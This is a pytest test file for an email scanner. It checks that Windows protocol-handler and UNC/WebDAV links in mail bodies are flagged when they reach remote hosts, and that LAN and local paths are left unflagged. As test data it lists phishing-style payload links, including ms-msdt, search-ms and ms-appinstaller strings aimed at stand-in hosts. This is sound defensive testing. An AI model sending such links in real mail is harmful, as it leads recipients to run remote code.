"""Links a click hands to Windows, not to a browser: search-ms:/search:, ms-appinstaller:,
ms-msdt:, ms-officecmd:, Office's ms-word:/ms-excel: schemes, file:// and UNC or WebDAV paths,
in text and HTML bodies (issue: payloads that slip past). Critical when they reach a share on
the Internet, WebDAV or a web address; a LAN share or a path on this computer is no finding."""

from __future__ import annotations

import pytest
from cases_links import html_mail, text_mail

from mailcheck.api import scan_bytes
from mailcheck.body_links import find_links

INTERNAL = (
    "From: Sato Hanako <sato@corp.example.com>",
    "To: Alex Morgan <alex.morgan@corp.example.com>",
)

REMOTE = [
    r"search-ms:query=invoice&crumb=location:\\203.0.113.5@SSL\DavWWWRoot\docs&displayname=Invoices",
    r"search:query=invoice&crumb=location:\\files.hacked-shop.example\share",
    "search-ms:query=a&crumb=location:%5C%5Cfiles.hacked-shop.example%40SSL%5CDavWWWRoot",
    "ms-appinstaller:?source=https://updates.hacked-shop.example/app.appinstaller",
    "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=cal?c",
    "ms-officecmd:eyJpZCI6M30=",
    "ms-word:ofe|u|https://docs.hacked-shop.example/contract.docx",
    "file://198.51.100.4/share/invoice.exe",
    r"\\files.hacked-shop.example@SSL\DavWWWRoot\invoice.lnk",
    r"\\203.0.113.9\share\invoice.js",
]


def handler_evidence(data: bytes) -> list[dict[str, str]]:
    result = scan_bytes(data)
    found = [f for f in result.findings if f.id == "link.handler"]
    assert all(f.severity == "critical" for f in found)
    return [dict(e.facts) for f in found for e in f.evidence]


def expected_scheme(link: str) -> str:
    """The scheme fact a link should carry: its own scheme, or "unc" for a \\host path."""
    return "unc" if link.startswith("\\\\") else link.partition(":")[0]


@pytest.mark.parametrize("link", REMOTE)
def test_a_handler_link_in_text_is_critical(link: str) -> None:
    for body in (f"Please open {link} today.\n", f"請求書は {link} にあります。\n"):
        data = text_mail(body)
        found = handler_evidence(data)
        assert found, body
        assert found[0]["scheme"] == expected_scheme(link)
        assert scan_bytes(data).verdict.label == "malicious"


@pytest.mark.parametrize("link", REMOTE)
def test_a_handler_link_in_an_html_href_is_critical(link: str) -> None:
    href = link.replace("&", "&amp;").replace('"', "&quot;")
    data = html_mail(f'<p>Invoice: <a href="{href}">invoice.pdf</a></p>')
    (facts,) = handler_evidence(data)
    assert facts["scheme"] == expected_scheme(link)
    assert scan_bytes(data).verdict.label == "malicious"


@pytest.mark.parametrize(
    "body",
    [
        # The company's own file server, written the way colleagues write it.
        "見積書は \\\\fileserver\\share\\営業\\見積書.xlsx に置きました。\n",
        "The minutes are in \\\\nas01\\team\\minutes.docx and file:///C:/Users/me/notes.txt\n",
        "search-ms:query=invoice&crumb=location:C%3A%5CUsers%5Cme (a local search)\n",
        "Search: invoices. Note: none. Time: 10:30, Re: file: report\n",
    ],
)
def test_lan_shares_local_paths_and_prose_are_no_finding(body: str) -> None:
    data = text_mail(body, *INTERNAL)
    assert handler_evidence(data) == []
    assert scan_bytes(data).verdict.label == "clean"


def test_the_evidence_names_the_scheme_and_where_it_reaches() -> None:
    data = text_mail("Open " + REMOTE[0] + "\n")
    (facts,) = handler_evidence(data)
    assert facts["scheme"] == "search-ms"
    assert facts["target"].startswith("\\\\203.0.113.5@SSL")


def test_handler_links_are_found_in_text_and_html() -> None:
    text = "see \\\\x.example@SSL\\DavWWWRoot\\a.lnk and ms-msdt:/id PCWDiagnostic\n"
    html = '<a href="search-ms:query=a&amp;crumb=location:\\\\x.example">files</a>'
    found = find_links(
        [("1", "text/plain", text), ("2", "text/html", html)], max_urls=9, max_chars=9999
    )
    assert [link.url for link in found.links] == [
        "\\\\x.example@SSL\\DavWWWRoot\\a.lnk",
        "ms-msdt:/id",
        "search-ms:query=a&crumb=location:\\\\x.example",
    ]


# --- links to files business mail has no reason to link to -----------------------------------

VENDOR = ("From: Accounts <ap@vendor.example>", "To: user@corp.example.com")


@pytest.mark.parametrize(
    "body",
    [
        "請求書はこちらからダウンロードしてください。\nhttps://files.example.org/share/%E8%AB%8B%E6%B1%82%E6%9B%B8.one\n",
        "Please open the statement:\nhttps://cdn.example.net/d/Statement_0312.js\n",
        "Shortcut to the shared folder:\nhttps://files.example.org/s/Invoice.lnk\n",
    ],
)
def test_a_link_to_a_notebook_script_or_shortcut_elsewhere_is_suspicious(body: str) -> None:
    result = scan_bytes(text_mail(body, *VENDOR))
    found = [f for f in result.findings if f.id == "link.payload_suspicious_host"]
    assert found, [f.id for f in result.findings]
    assert found[0].facts()["tricks"].endswith(" file")
    assert result.verdict.label == "suspicious"


@pytest.mark.parametrize(
    ("body", "sender"),
    [
        # The sender's own server: a vendor sharing its own notebook.
        ("https://files.vendor.example/share/manual.one\n", VENDOR),
        # A disk image from a software vendor: downloads are published this way.
        ("https://downloads.example.org/releases/installer-2.1.iso\n", VENDOR),
    ],
)
def test_the_sender_s_own_files_and_disk_image_downloads_stay_notes(
    body: str, sender: tuple[str, str]
) -> None:
    result = scan_bytes(text_mail(body, *sender))
    found = {f.id for f in result.findings}
    assert "link.payload" in found and "link.payload_suspicious_host" not in found
    assert result.verdict.label == "clean"
